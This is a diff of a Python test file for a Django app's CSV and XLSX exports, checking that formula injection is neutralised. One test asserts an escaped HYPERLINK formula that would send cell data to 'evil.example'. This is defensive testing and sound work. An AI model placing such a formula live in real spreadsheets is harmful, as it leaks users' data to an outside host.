@@ -3,7 +3,6 @@ import io
 from datetime import UTC, date, datetime
 
 import django_tables2 as tables
-import openpyxl
 import pytest
 from django.http import Http404
 from django.test import RequestFactory
@@ -16,6 +15,7 @@ from core.exports import (
     neutralise,
     streamed_csv_response,
 )
+from tests.support.found import first_sheet
 
 HEADERS = ["Nama", "Instansi", "Catatan"]
 
@@ -25,7 +25,7 @@ def read_csv(response):
 
 
 def read_xlsx(response):
-    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    sheet = first_sheet(response.content)
     return [list(row) for row in sheet.iter_rows(values_only=True)]
 
 
@@ -103,8 +103,7 @@ def test_an_xlsx_download_has_no_formula_and_keeps_numbers_as_numbers():
     )
 
     assert response["Content-Disposition"] == 'attachment; filename="daftar-hadir.xlsx"'
-    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
-    sheet = workbook.active
+    sheet = first_sheet(response.content)
     assert sheet.title == "daftar-hadir"
     assert read_xlsx(response) == [
         ["'=Nama", "Instansi", "Jumlah"],
@@ -123,7 +122,7 @@ def test_a_control_character_before_a_formula_does_not_make_it_live(file_format)
     rows = read_csv(response) if file_format == ExportFormat.CSV else read_xlsx(response)
     assert rows[1] == ['\'=HYPERLINK("http://evil.example/?"&B2,"Klik")', "'+62", "'@x"]
     if file_format == ExportFormat.XLSX:
-        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        sheet = first_sheet(response.content)
         assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
 
 
@@ -153,9 +152,7 @@ def test_a_table_download_holds_every_row_of_every_page_in_the_tables_order():
 
     assert response.streaming
     assert response["Content-Disposition"] == 'attachment; filename="peserta.csv"'
-    header, *rows = list(
-        csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
-    )
+    header, *rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
     assert header == ["Nama", "Instansi"]
     assert [row[0] for row in rows] == [f"Pegawai {number:02d}" for number in reversed(range(30))]
     assert {row[1] for row in rows} == {"'=BPS"}
